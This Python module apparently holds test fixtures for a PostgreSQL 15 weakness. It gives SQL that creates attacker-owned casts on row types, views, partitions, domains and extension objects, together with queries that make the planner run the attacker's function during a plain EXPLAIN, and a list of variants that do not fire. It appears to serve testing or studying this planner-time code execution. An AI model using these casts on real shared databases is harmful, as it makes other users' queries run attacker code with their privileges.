"""Casts of tables' rows by which an attacker would have the planner run a function of theirs, and texts that use them.

The cast's function is written in SQL, so that it is inlined and what it calls is computed while rows are estimated.
"""

from __future__ import annotations


def _cast(source: str, target: str, way: str = "AS IMPLICIT") -> tuple[str, str]:
    name = f"evil.{source}_to_{target}".replace("[]", "s").replace('"', "")
    body = {"int": "length(evil.told())", "text": "evil.told()", "jsonb": "to_jsonb(evil.told())"}[target]
    return (
        f"CREATE FUNCTION {name}({source}) RETURNS {target} STABLE LANGUAGE sql AS $$ SELECT {body} $$",
        f"CREATE CAST ({source} AS {target}) WITH FUNCTION {name} {way}",
    )


ROWS_OF_ATTACKER = (
    "CREATE TABLE rowed (id int, name text, doc jsonb)",
    "INSERT INTO rowed SELECT n, 'name ' || n, '{}' FROM generate_series(1, 1000) AS n",
    *_cast("rowed", "int"),
    *_cast("rowed", "text"),
    *_cast("rowed", "jsonb"),
    "CREATE TABLE asked (id int, name text)",
    *_cast("asked", "int", ""),
    "CREATE TABLE assigned (id int, name text)",
    *_cast("assigned", "int", "AS ASSIGNMENT"),
    # Only a list of rows has a cast.
    "CREATE TABLE listed (id int, name text)",
    *_cast("listed[]", "int"),
    # What is made of rows
    "CREATE TABLE rowed_child () INHERITS (rowed)",
    "CREATE TABLE rowed_parts (id int, name text) PARTITION BY RANGE (id)",
    "CREATE TABLE rowed_part PARTITION OF rowed_parts FOR VALUES FROM (1) TO (1000)",
    *_cast("rowed_parts", "int"),
    "CREATE TYPE shape AS (id int, name text)",
    *_cast("shape", "int"),
    "CREATE TABLE shaped OF shape",
    "CREATE TABLE with_row (id int, r rowed)",
    "CREATE TABLE with_rows (id int, rs rowed[])",
    "CREATE DOMAIN rowed_domain AS rowed",
    "CREATE TABLE with_row_domain (id int, d rowed_domain)",
    "CREATE TYPE of_row AS (n int, r rowed)",
    "CREATE TABLE with_row_within (id int, o of_row)",
    "CREATE TYPE row_range AS RANGE (SUBTYPE = rowed)",
    "CREATE TABLE with_row_range (id int, s row_range)",
    "CREATE VIEW of_rowed AS SELECT rowed AS r, id FROM rowed",
    "CREATE VIEW ids_of_rowed AS SELECT id FROM rowed",
    "CREATE MATERIALIZED VIEW kept_rows AS SELECT rowed AS r, id FROM rowed",
    # Views have rows too.
    "CREATE VIEW rowed_view AS SELECT id, name FROM plain",
    *_cast("rowed_view", "int"),
    "CREATE MATERIALIZED VIEW kept AS SELECT id, name FROM plain",
    *_cast("kept", "int"),
    # The owner of an extension may put tables and types into it.
    "CREATE TABLE added (id int, name text)",
    *_cast("added", "int"),
    "ALTER EXTENSION hstore ADD TABLE added",
    "CREATE TYPE added_mood AS ENUM ('sad', 'glad')",
    *_cast("added_mood", "text"),
    "ALTER EXTENSION hstore ADD TYPE added_mood",
    "CREATE TABLE with_added (name text, m added_mood)",
    # By the server's own input and output functions, which run the domain's CHECK
    "CREATE TABLE checked_rows (id int, d evil.checked)",
    "CREATE CAST (checked_rows AS jsonb) WITH INOUT AS IMPLICIT",
    "ANALYZE rowed, rowed_parts, shaped",
)

FIRING_ROWS = (
    "SELECT count(*) FROM rowed WHERE id > rowed::int",
    "SELECT count(*) FROM rowed WHERE id > CAST(rowed AS int)",
    "SELECT count(*) FROM rowed WHERE id > (public.rowed.*)::int",
    "SELECT count(*) FROM rowed WHERE rowed::int < id",
    "SELECT count(*) FROM rowed WHERE name > rowed::text",
    "SELECT count(*) FROM rowed WHERE doc > rowed::jsonb",
    "SELECT count(*) FROM rowed WHERE id BETWEEN 1 AND rowed::int",
    "SELECT count(*) FROM rowed WHERE id + 0 > 3 AND id > 2 + rowed",
    "SELECT count(*) FROM rowed AS x WHERE x.id > x::int",
    "SELECT count(*) FROM rowed AS x WHERE x.id > (x.*)::int",
    "SELECT count(*) FROM plain AS p JOIN rowed ON p.n > rowed::int AND rowed.id = p.id",
    "SELECT count(*) FROM plain AS p WHERE p.id > (SELECT max(rowed.id) FROM rowed WHERE rowed.id > rowed::int)",
    "SELECT count(*) FROM plain AS p WHERE EXISTS (SELECT FROM rowed WHERE rowed.id = p.id AND rowed.id > rowed::int)",
    "WITH w AS (SELECT rowed AS r, id FROM rowed) SELECT count(*) FROM w WHERE w.id > w.r::int",
    "SELECT count(*) FROM (SELECT rowed AS r, id FROM rowed) AS s WHERE s.id > s.r::int",
    "SELECT count(*) FROM rowed, LATERAL (SELECT rowed::int AS z) AS q WHERE q.z > rowed.id",
    "SELECT count(*) FROM rowed WHERE id > COALESCE(rowed::int, 5)",
    "SELECT count(*) FROM asked WHERE id > asked::int",
    "SELECT count(*) FROM assigned WHERE id > assigned::int",
    "SELECT count(*) FROM listed WHERE id > ARRAY[listed]::int",
    "SELECT count(*) FROM rowed_child WHERE id > rowed_child::rowed::int",
    "SELECT count(*) FROM rowed_parts WHERE id > rowed_parts::int",
    "SELECT count(*) FROM rowed_part WHERE id > rowed_part::rowed_parts::int",
    "SELECT count(*) FROM shaped WHERE id > shaped::shape::int",
    "SELECT count(*) FROM plain WHERE id > ROW(1, 'x')::shape::int",
    "SELECT count(*) FROM with_row WHERE id > r::int",
    "SELECT count(*) FROM with_row WHERE with_row.id > (with_row.r)::int",
    "SELECT count(*) FROM with_rows WHERE id > rs[1]::int",
    "SELECT count(*) FROM with_row_domain WHERE id > d::int",
    "SELECT count(*) FROM with_row_range WHERE id > lower(s)::int",
    "SELECT count(*) FROM of_rowed WHERE id > r::int",
    "SELECT count(*) FROM kept_rows WHERE id > r::int",
    "SELECT count(*) FROM rowed_view WHERE id > rowed_view::int",
    "SELECT count(*) FROM kept WHERE id > kept::int",
    "SELECT count(*) FROM added WHERE id > added::int",
    "SELECT count(*) FROM with_added WHERE name > upper('sad'::added_mood)",
)
"""By a plain EXPLAIN of them PostgreSQL 15 runs the attacker's code."""

SILENT_ROWS = (
    "SELECT count(*) FROM with_row_within WHERE id > (o).r::int",
    "SELECT count(*) FROM with_row_within WHERE o = '(1,\"(1,x,)\")'",
    "SELECT count(*) FROM rowed WHERE id > rowed::text::int",
    "SELECT count(*) FROM rowed WHERE id > public.rowed::int",
    "SELECT count(*) FROM rowed WHERE id > COALESCE(rowed, 5)",
    "SELECT count(*) FROM (SELECT * FROM rowed) AS s WHERE s.id > s::int",
    "SELECT count(*) FROM rowed WHERE rowed = '(1,x,)'",
    "SELECT count(*) FROM rowed WHERE rowed.int4 = 3",
    "SELECT count(*) FROM rowed WHERE name = rowed.text",
    "SELECT count(*) FROM rowed WHERE name = text(rowed)",
    "SELECT count(*) FROM rowed WHERE id IN (SELECT rowed::int FROM plain)",
    "SELECT count(*) FROM rowed WHERE id = CASE WHEN id = 1 THEN rowed ELSE 3 END",
    "SELECT count(*) FROM rowed WHERE id = ANY (ARRAY[rowed, 5])",
    "SELECT id FROM plain UNION SELECT rowed FROM rowed",
    "SELECT id FROM ids_of_rowed WHERE id = 3",
    "SELECT count(*) FROM rowed WHERE id > (SELECT array_agg(r) FROM rowed AS r)::text::int",
    "SELECT count(*) FROM checked_rows WHERE checked_rows = '(1,x)'",
    "SELECT count(*) FROM checked_rows WHERE checked_rows::jsonb = '{}'",
    "SELECT count(*) FROM plain WHERE '{}'::jsonb::text::checked_rows IS NULL",
    "SELECT rowed FROM rowed ORDER BY rowed",
    "INSERT INTO plain (n) SELECT rowed FROM rowed",
    "INSERT INTO plain (n) SELECT assigned FROM assigned WHERE assigned.id = 3",
    "UPDATE plain SET n = rowed FROM rowed WHERE rowed.id = plain.id",
    "DELETE FROM plain USING rowed WHERE plain.n = rowed",
)
"""Others of the kind, which the server refuses or does not compute while planning, or in which the planning ends in an error."""
